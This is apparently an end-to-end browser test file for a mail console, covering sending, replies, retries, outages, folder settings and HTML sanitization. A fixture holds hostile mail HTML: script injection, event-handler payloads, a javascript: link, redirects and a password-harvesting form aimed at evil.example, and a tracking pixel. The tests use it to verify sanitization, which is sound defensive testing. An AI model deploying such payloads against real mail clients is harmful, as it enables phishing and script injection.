import { readFile } from 'node:fs/promises'
import { gzipSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import { expect, test as plainTest } from 'vitest'
import type { Json } from '../../infra/local/as-app.ts'
import { lookAt, picture } from './look.ts'
import { connect, hasBrowser, signIn, useRunningConsole } from './running-console.ts'

const test = plainTest.skipIf(!hasBrowser)
const running = useRunningConsole()
const pictures = new URL('../../artefacts/', import.meta.url)
const customer = { address: 'customer@outside.example', name: 'Casey Customer' }

test('these tests need /usr/bin/chromium (Debian: apt-get install chromium), else all are skipped', () => {
  expect(hasBrowser).toBe(true)
})

async function outside(subject: string): Promise<Json[]> {
  const { messages } = await running.sandbox('/outside')
  return messages.filter((mail: Json) => mail.subject === subject)
}

const fact = (page: Page, name: string) =>
  page.locator(`#channel-facts [data-key="${name}"] dd`).textContent()
const to = (page: Page) => page.getByRole('textbox', { name: /^To/ })

async function write(page: Page, draft: { to: string; subject: string; text: string }) {
  await page.getByRole('button', { name: 'Write' }).click()
  await to(page).fill(draft.to)
  await page.getByLabel('Subject').fill(draft.subject)
  await page.getByLabel('Text').fill(draft.text)
}

const send = (page: Page) => page.getByRole('button', { name: 'Send', exact: true })
const row = (page: Page, subject: string) => page.locator('#messages a', { hasText: subject })
const message = (page: Page, text: string) => page.locator('#conversation article', { hasText: text })

test('a person connects a mailbox, answers a customer’s mail, and the customer gets the answer', async () => {
  const page = await running.open('acme')
  await connect(page, { person: 'Grace Hopper' })
  expect(page.url()).not.toContain('connect_session')
  expect(await fact(page, 'Address')).toContain('Grace.Hopper@tenant-b.example')
  expect(await fact(page, 'Sends as (SMTP login)')).toBe('grace@tenant-a.examplediffers from the address')

  await running.sandbox('/personas/grace/deliver', {
    from: customer,
    subject: 'Opening hours',
    text: 'When?',
  })
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await row(page, 'Opening hours').click()
  await message(page, 'When?').getByRole('button', { name: 'Reply' }).click()
  await page.getByLabel('Text').fill('From nine.')
  await send(page).click()

  await message(page, 'From nine.').getByText('Sent', { exact: true }).waitFor()
  const [answer] = await outside('Re: Opening hours')
  expect(answer).toMatchObject({
    recipient: customer.address,
    from: [{ address: 'Grace.Hopper@tenant-b.example' }],
    text: expect.stringContaining('From nine.'),
  })
  await page.locator('#events', { hasText: 'message.sent' }).waitFor()
  expect(running.complaints).toEqual([])
})

test('a customer’s answer joins the conversation, in order, without anybody touching the page', async () => {
  const page = await running.open('threads')
  await connect(page, { person: 'Ada Lovelace' })
  await write(page, { to: customer.address, subject: 'Offer', text: 'Ten crates.' })
  await send(page).click()
  await row(page, 'Offer').click()
  await message(page, 'Ten crates.').getByText('Sent', { exact: true }).waitFor()
  const [offer] = await outside('Offer')
  await running.sandbox(`/outside/${offer.id}/reply`, { text: 'Agreed.' })
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await message(page, 'Agreed.').waitFor()
  expect(await page.locator('#conversation .text').allInnerTexts()).toEqual([
    'Ten crates.',
    expect.stringContaining('Agreed.'),
  ])
})

test('a declined consent says what happened and who has to act, and leaves a clean URL', async () => {
  const page = await running.open('declined')
  await signIn(page, { provider: 'Google', person: 'Linus Lindqvist', decision: 'Decline' })
  await page.getByRole('link', { name: 'Back to the app' }).click()
  await page.getByText('Access to the mailbox was declined.').waitFor()
  await page.getByText('The owner of the mailbox has to act.').waitFor()
  await expect.poll(() => page.url()).toBe(`${running.url}/`)
})

test('a retry after a lost answer, and a double click, send the message once', async () => {
  const page = await running.open('once')
  await connect(page, { provider: 'Google', person: 'Linus Lindqvist' })
  await write(page, { to: customer.address, subject: 'Only once', text: 'Once.' })
  // The API accepts it, and the answer is lost on its way back.
  await page.route(
    '**/v1/channels/*/messages',
    async route => {
      await route.fetch()
      await route.abort()
    },
    { times: 1 },
  )
  await send(page).click()
  await page.getByText('No answer came').waitFor()
  await send(page).dblclick()
  await row(page, 'Only once').getByText('Sent', { exact: true }).waitFor()
  expect(await row(page, 'Only once').count()).toBe(1)
  expect(await outside('Only once')).toHaveLength(1)
})

test('what was changed after it was accepted goes out only if the person says so', async () => {
  const page = await running.open('changed')
  await connect(page, { person: 'Margaret Hamilton' })
  await write(page, { to: customer.address, subject: 'First thought', text: 'One.' })
  await page.route(
    '**/v1/channels/*/messages',
    async route => {
      await route.fetch()
      await route.abort()
    },
    { times: 1 },
  )
  await send(page).click()
  await page.getByText('No answer came').waitFor()
  await page.getByLabel('Subject').fill('Second thought')
  await send(page).click()
  await page.getByText('was accepted before you changed it').waitFor()
  await page.getByRole('button', { name: 'Send as another message' }).click()
  await row(page, 'Second thought').getByText('Sent', { exact: true }).waitFor()
  expect(await outside('First thought')).toHaveLength(1)
  expect(await outside('Second thought')).toHaveLength(1)
})

test('a rule that was broken is told at the field that broke it', async () => {
  const page = await running.open('fields')
  await connect(page, { person: 'Margaret Hamilton' })
  await write(page, { to: 'nobody', subject: 'x', text: '' })
  await send(page).click()
  await page.getByText('“nobody” must be a mail address such as ada@contoso.example.').waitFor()
  expect(await to(page).getAttribute('aria-invalid')).toBe('true')
  expect(await page.getByLabel('Subject').getAttribute('aria-invalid')).toBe('false')
})

test('a mail’s markup is shown as the text it is', async () => {
  const page = await running.open('markup')
  await connect(page, { person: 'Grace Hopper' })
  const markup = '<img src=x id=evil>'
  await running.sandbox('/personas/grace/deliver', { from: customer, subject: markup, text: markup })
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await row(page, markup).click()
  await message(page, markup).locator('.text', { hasText: markup }).waitFor()
  expect(await page.locator('#evil').count()).toBe(0)
})

test('a sent mail of only HTML is not shown, and its original can be downloaded', async () => {
  const page = await running.open('html')
  await connect(page, { person: 'Grace Hopper' })
  const [, channelId = ''] = new URL(page.url()).hash.split('/')
  const document = { to: [customer], subject: 'Newsletter', html: '<h1 id="evil">Buy</h1>' }
  expect((await running.app().send(channelId, document, 'html-1')).status).toBe(202)
  await page.getByRole('link', { name: 'Sent', exact: true }).click()
  await row(page, 'Newsletter').click()
  await page.getByText('only an HTML version').waitFor()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download the original' }).click(),
  ])
  expect(download.suggestedFilename()).toMatch(/\.eml$/)
  expect(await page.locator('#evil').count()).toBe(0)
})

test('a file larger than the API can answer with is downloaded from where it says', async () => {
  const page = await running.open('large')
  await connect(page, { person: 'Grace Hopper' })
  const [, channelId = ''] = new URL(page.url()).hash.split('/')
  const content = Buffer.alloc(4_500_001, 'not all the same, ')
  const file = { contentType: 'application/pdf', size: content.length }
  const { body: upload } = await running.app().call('POST', '/v1/uploads', { channelId, ...file })
  const { method, url, headers } = upload
  expect((await fetch(url, { method, headers, body: content })).status).toBe(200)
  const attachments = [{ filename: 'plan.pdf', contentType: file.contentType, uploadId: upload.uploadId }]
  const document = { to: [customer], subject: 'A large file', text: 'Here it is', attachments }
  expect((await running.app().send(channelId, document, 'large-1')).status).toBe(202)
  await page.getByRole('link', { name: 'Sent', exact: true }).click()
  await row(page, 'A large file').click()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: /plan\.pdf/ }).click(),
  ])
  expect((await readFile(await download.path())).equals(content)).toBe(true)
  expect(running.complaints).toEqual([])
})

test('a formatted mail is shut in: no script runs, nothing is loaded, nothing reaches out of its frame', async () => {
  const page = await running.open('formatted')
  const foreign: string[] = []
  page.on('request', request => {
    if (/evil|shop/.test(new URL(request.url()).hostname)) foreign.push(request.url())
  })
  await connect(page, { person: 'Grace Hopper' })
  await running.sandbox('/personas/grace/deliver', {
    from: customer,
    subject: 'Look at this',
    text: 'Spring offer',
    html: hostileHtml,
  })
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await row(page, 'Look at this').click()
  await page.getByRole('button', { name: 'Show formatted' }).click()
  const mail = page.frameLocator('iframe.formatted')
  await mail.getByRole('heading', { name: 'Spring offer' }).waitFor()
  // What the sender laid out is there; what could act is not.
  expect(
    await mail.locator('script, style, form, input, iframe, object, meta[http-equiv="refresh" i]').count(),
  ).toBe(0)
  expect(await mail.locator('[onclick], [onerror], [style], img[src^="http"]').count()).toBe(0)
  expect(await mail.locator('img[data-remote-src="https://evil.example/pixel.gif"]').count()).toBe(1)
  expect(await mail.getByRole('link', { name: 'Shop' }).getAttribute('rel')).toContain('noopener')
  expect(await page.evaluate('window.ranInTheConsole')).toBeUndefined()
  expect(await page.title()).toMatch(/Postroom$/)
  expect(foreign).toEqual([])
  const box = await page.locator('iframe.formatted').boundingBox()
  expect(box?.width).toBeLessThan(800)
  await page.screenshot({ path: new URL('console-formatted.png', pictures).pathname })
})

test('pictures on other servers are loaded once the reader asks, and tell those servers no more than that', async () => {
  const page = await running.open('pictures')
  const asked: Record<string, string>[] = []
  await page.route('https://pictures.example/**', async route => {
    asked.push({ url: route.request().url(), ...(await route.request().allHeaders()) })
    await route.fulfill({ contentType: 'image/svg+xml', body: drawing })
  })
  await connect(page, { person: 'Grace Hopper' })
  const html = '<h1>Offer</h1><img src="https://pictures.example/offer.svg" alt="Crates">'
  const mail = { from: customer, subject: 'With pictures', text: 'Offer', html }
  await running.sandbox('/personas/grace/deliver', mail)
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await row(page, 'With pictures').click()
  await page.getByRole('button', { name: 'Show formatted' }).click()
  const frame = page.frameLocator('iframe.formatted')
  await frame.getByRole('heading', { name: 'Offer' }).waitFor()
  const width = () => frame.getByAltText('Crates').evaluate(img => Reflect.get(img, 'naturalWidth'))
  expect(await width()).toBe(0)
  expect(asked).toEqual([])
  await lookAt(page, 'formatted')
  await page.getByRole('button', { name: 'Load pictures' }).click()
  await expect.poll(width).toBe(40)
  expect(asked).toMatchObject([{ url: 'https://pictures.example/offer.svg' }])
  expect(asked[0]).not.toHaveProperty('referer')
  expect(asked[0]).not.toHaveProperty('cookie')
  await picture(page, 'formatted-with-pictures')
})

const drawing =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30" fill="teal"/></svg>'

const hostileHtml = `<html><head><title>Gone</title><style>body{position:fixed;inset:0;background:url(https://evil.example/s)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="parent.ranInTheConsole=1">
<script>parent.ranInTheConsole = 1; top.location = 'https://evil.example/'</script>
<h1 style="position:fixed;top:0;width:9999px">Spring offer</h1>
<img src="https://evil.example/pixel.gif" onerror="parent.ranInTheConsole=1"><svg onload="parent.ranInTheConsole=1"></svg>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/"></iframe><a href="https://shop.example/" onclick="alert(1)">Shop</a>
<a href="javascript:parent.ranInTheConsole=1">Click</a></body></html>`

test('an outage is told quietly, and the console recovers by itself', async () => {
  const page = await running.open('outage')
  await connect(page, { person: 'Ada Lovelace' })
  const banner = page.locator('#outage', { hasText: 'Postroom does not answer.' })
  await page.context().setOffline(true)
  await banner.waitFor()
  await running.sandbox('/personas/ada/deliver', {
    from: customer,
    subject: 'Are you there?',
    text: 'Hello?',
  })
  await page.context().setOffline(false)
  await banner.waitFor({ state: 'hidden' })
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await row(page, 'Are you there?').waitFor()
})

test('a broken mailbox says who has to act, and “Reconnect” leads back to the same one', async () => {
  const page = await running.open('broken')
  await connect(page, { person: 'Grace Hopper' })
  const before = page.url()
  const fault = {
    code: 'smtp_auth_refused',
    actor: 'owner',
    summary: 'The mail server refuses our sign-in for sending.',
    evidence: '535 5.7.3',
  }
  await page.route(
    '**/v1/channels?*',
    async route => {
      const response = await route.fetch()
      const json = await response.json()
      json.channels[0].auth = { state: 'reconnect_required', since: new Date().toISOString(), fault }
      await route.fulfill({ response, json })
    },
    { times: 1 },
  )
  await page.reload()
  await page
    .locator('#channel-faults', { hasText: `${fault.summary} The owner of the mailbox has to act.` })
    .waitFor()
  await page.getByRole('button', { name: 'Reconnect' }).click()
  await page.getByRole('heading', { name: 'Reconnect your mailbox' }).waitFor()
  await page.getByRole('button', { name: 'Continue to Microsoft 365' }).click()
  await page.getByRole('button', { name: 'Accept' }).click()
  await page.getByText('is connected to the account').waitFor()
  await page.locator('#events', { hasText: 'channel.reconnected' }).waitFor()
  expect(page.url()).toBe(before)
})

test('once an administrator has acted, “Check sign-in” cures the mailbox, and its past tells what it went through', async () => {
  const page = await running.open('cured')
  await connect(page, { person: 'Ada Lovelace' })
  await running.sandbox('/personas/ada/script', { script: 'smtp_disabled_mailbox' })
  await page.getByRole('button', { name: 'Check sign-in' }).click()
  await page.locator('#channel-faults', { hasText: 'An administrator can switch it on' }).waitFor()
  await running.sandbox('/personas/ada/script', { script: '' })
  await page.getByRole('button', { name: 'Check sign-in' }).click()
  await page.locator('#channel-badges', { hasText: 'Sign-in works' }).waitFor()
  await page.getByText('Timeline').click()
  const steps = page.locator('#channel-history li')
  await steps.first().waitFor()
  expect(await steps.first().textContent()).toContain('Sign-in works (was: Blocked by an administrator)')
  await lookAt(page, 'timeline')
})

test('a first visit loads less than 150 kB of script, compressed', async () => {
  const page = await running.open('size')
  const paths: string[] = await page.evaluate(
    "performance.getEntriesByType('resource').filter(({ name }) => name.endsWith('.js')).map(({ name }) => name)",
  )
  expect(paths.length).toBeGreaterThan(10)
  const scripts = await Promise.all(paths.map(async path => (await fetch(path)).text()))
  const compressed = scripts.map(text => gzipSync(text).length)
  expect(compressed.reduce((sum, bytes) => sum + bytes, 0)).toBeLessThan(150_000)
})

test('a mail that is shown formatted stays so when its answer comes', async () => {
  // It was made anew as soon as the conversation had a second message, and stood there as text again.
  const page = await running.open('stays')
  await connect(page, { person: 'Grace Hopper' })
  const mail = { from: customer, subject: 'Price list', text: 'Prices', html: '<h1>Prices</h1>' }
  await running.sandbox('/personas/grace/deliver', mail)
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await row(page, 'Price list').click()
  await page.getByRole('button', { name: 'Show formatted' }).click()
  const heading = page.frameLocator('iframe.formatted').getByRole('heading', { name: 'Prices' })
  await heading.waitFor()
  await page.getByRole('button', { name: 'Reply' }).click()
  await page.getByLabel('Text').fill('Too much.')
  await send(page).click()
  await message(page, 'Too much.').getByText('Sent', { exact: true }).waitFor()
  expect(await heading.isVisible()).toBe(true)
})

test('an account id that breaks the rules is refused at its field', async () => {
  const page = await running.open('no spaces please')
  await page.locator('#account-error', { hasText: 'must be 1 to 128 letters' }).waitFor()
})

test('nothing is wider than a screen of 320 pixels', async () => {
  const page = await running.open('narrow', { width: 320 })
  await connect(page, { person: 'Grace Hopper' })
  const subject = `Long-${'word'.repeat(40)}`
  await running.sandbox('/personas/grace/deliver', { from: customer, subject, text: 'y'.repeat(300) })
  await page.getByRole('button', { name: 'Fetch now' }).click()
  const isTooWide = 'document.documentElement.scrollWidth > window.innerWidth'
  await row(page, subject).waitFor()
  expect(await page.evaluate(isTooWide)).toBe(false)
  await row(page, subject).click()
  await message(page, 'yyy').waitFor()
  expect(await page.evaluate(isTooWide)).toBe(false)
  await page.getByRole('button', { name: 'Reply' }).click()
  await send(page).waitFor()
  expect(await page.evaluate(isTooWide)).toBe(false)
})

test('a person chooses the folders that are read, by keyboard alone, and is told which one the mailbox does not have', async () => {
  const page = await running.open('folders')
  await connect(page, { person: 'Edsger Dijkstra' })
  const chosen = page.locator('#folders-summary')
  await expect.poll(() => chosen.textContent()).toBe('Folders: Inbox')
  await chosen.focus()
  await page.keyboard.press('Enter')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Space')
  await page.getByLabel(/^Other folders/).fill('Clients/Acme')
  // What the console reads meanwhile takes nothing away from what is being written.
  await page.getByRole('button', { name: 'Fetch now' }).click()
  await page.getByText('The provider is being asked.').waitFor()
  await page.getByRole('button', { name: 'Save folders' }).focus()
  await page.keyboard.press('Enter')
  await page.getByText('“Clients/Acme” is not in this mailbox.').waitFor()
  await page.locator('#channel-faults', { hasText: 'The owner of the mailbox has to act.' }).waitFor()
  expect(await chosen.textContent()).toBe('Folders: Inbox, Sent, Clients/Acme')
  await page.getByText('Saved.', { exact: true }).waitFor()
  await lookAt(page, 'folders')

  const names = page.getByLabel(/^Other folders/)
  await names.fill('Clients/Acme\nClients/Acme')
  await page.getByRole('button', { name: 'Save folders' }).click()
  await page.locator('#folders-error', { hasText: 'must name no folder twice' }).waitFor()
  expect(await names.getAttribute('aria-invalid')).toBe('true')
  await page.getByRole('button', { name: 'Undo' }).click()
  expect(await names.inputValue()).toBe('Clients/Acme')
  await names.fill('')
  await page.getByRole('button', { name: 'Save folders' }).click()
  await page.getByText('Saved. The mailbox has all of them.').waitFor()
  expect(await chosen.textContent()).toBe('Folders: Inbox, Sent')
  expect(await page.locator('#channel-faults').textContent()).toBe('')
  // The refused change is the page's own test of its error.
  expect(running.complaints.filter(text => !text.includes('400'))).toEqual([])
})
